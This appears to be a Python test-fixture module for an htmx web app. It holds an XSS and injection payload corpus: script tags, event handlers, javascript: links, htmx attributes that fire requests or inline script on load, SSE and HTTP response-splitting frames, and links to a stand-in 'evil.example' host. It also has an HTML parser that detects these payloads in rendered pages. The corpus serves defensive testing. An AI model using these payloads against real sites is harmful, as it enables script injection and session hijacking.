"""Words that want to be more than words: what a filter lets through, and what htmx would listen to.

After the evasion list of OWASP, with what this application and its library make possible.
Each sets `window.pwned`, or would ask a host that is not ours, or do an act, if it came to life.
"""

from __future__ import annotations

from html.parser import HTMLParser

RUN = "window.pwned=1"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script\n>{RUN}</script\n>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f'<iframe src="javascript:parent.{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button>',
    '<form action="//evil.example"><button autofocus>x</button>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x.png)">x</p>',
    '<object data="//evil.example/x.swf"></object>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
)
BREAKING_OUT = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f"` onmouseover=`{RUN}`",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</p></li></ol></hx-partial><script>{RUN}</script>",
    f"--></script><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    f"＜script＞{RUN}＜/script＞",
    f"{{{{ ''.__class__ }}}}{{% raw %}}<script>{RUN}</script>",
    f"${{{RUN}}}#{{{RUN}}}",
    f"[x](javascript:{RUN}) ![x](//evil.example/x.png)",
    "a\u2028b\u2029c",
)
HTMX = (
    '<div hx-post="/rooms/ROOM/end_session" hx-trigger="load">x</div>',
    '<div data-hx-post="/rooms/ROOM/end_session" data-hx-trigger="load">x</div>',
    '<div hx-get="//evil.example/" hx-trigger="load delay:1ms">x</div>',
    f'<div hx-on:load="{RUN}" hx-on::after:swap="{RUN}">x</div>',
    f'<div hx-on="load:{RUN}">x</div>',
    f'<div hx-vals="js:{{a:{RUN}}}" hx-get="/" hx-trigger="load">x</div>',
    f'<div hx-headers="js:{{a:{RUN}}}" hx-get="/" hx-trigger="load">x</div>',
    '<div id="room" hx-swap-oob="true">gone</div>',
    '<p id="first" hx-swap-oob="innerHTML">gone</p>',
    '<hx-partial hx-target="#room" hx-swap="innerHTML">gone</hx-partial>',
    '<hx-partial hx-target="body" hx-swap="outerHTML">gone</hx-partial>',
    f'<template hx type="partial" hx-target="#room"><img src=x onerror={RUN}></template>',
    '" hx-get="/" hx-trigger="load" x="',
    "' hx-post='/rooms/ROOM/end_session' hx-trigger='load' x='",
    'name="key" value=""',
)
# What looks like the frame around a live message.
FRAMING = (
    "1\n<p>gone</p>",
    "x\n\ndata: 99\ndata: <p id=injected>x</p>\n\n",
    "x\r\nevent: end\r\ndata: 4403\r\n\r\n",
    "id: 999999\n\n",
    "x\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: setroom=x\r\n\r\n",
)
CORPUS = (*MARKUP, *BREAKING_OUT, *HTMX, *FRAMING)

NO_CALL_LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript://https://x/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:x",
    "//evil.example/",
    "/rooms/ROOM/end_session",
    "https:evil.example",
    "ftp://evil.example/",
    "file:///etc/passwd",
    "x",
)
ODD_CALL_LINKS = (
    f'https://call.example/"onmouseover="{RUN}',
    f"https://call.example/'><script>{RUN}</script>",
    f"https://call.example/#javascript:{RUN}",
    'https://call.example/"hx-get="/"hx-trigger="load',
)

ADDRESSES = ("href", "src", "action", "formaction", "data", "poster")
OURS = ("/", "#", "https://", "http://", "data:image/")  # the call link is the only way out

Part = tuple[str, tuple[str, ...]]


class Skeleton(HTMLParser):
    """The elements of a page and the names of their attributes, without any of its words.

    `wrong`: what must not be in any page of ours: script of its own, style of its own, handlers,
    addresses of another kind.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[Part] = []
        self.wrong: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.parts.append((tag, tuple(name for name, _ in attrs)))
        self._in_script = tag in ("script", "style")
        for name, value in attrs:
            given = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "srcdoc", "http-equiv", "hx-on"):
                self.wrong.append(f"{tag} {name}={value}")
            if name in ADDRESSES and (given.startswith("//") or not given.startswith(OURS)):
                self.wrong.append(f"{tag} {name}={value}")
            if name.startswith(("hx-on:", "data-hx-on:")):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        self.parts.append((f"/{tag}", ()))
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.wrong.append(f"script or style in the page: {data[:40]}")

    def handle_comment(self, data: str) -> None:
        self.parts.append(("!", ()))

    def handle_decl(self, decl: str) -> None:
        self.parts.append((f"!{decl}", ()))

    def unknown_decl(self, data: str) -> None:
        self.parts.append(("![", ()))

    def handle_pi(self, data: str) -> None:
        self.parts.append(("?", ()))


def skeleton_of(html: str) -> Skeleton:
    found = Skeleton()
    found.feed(html)
    found.close()
    return found
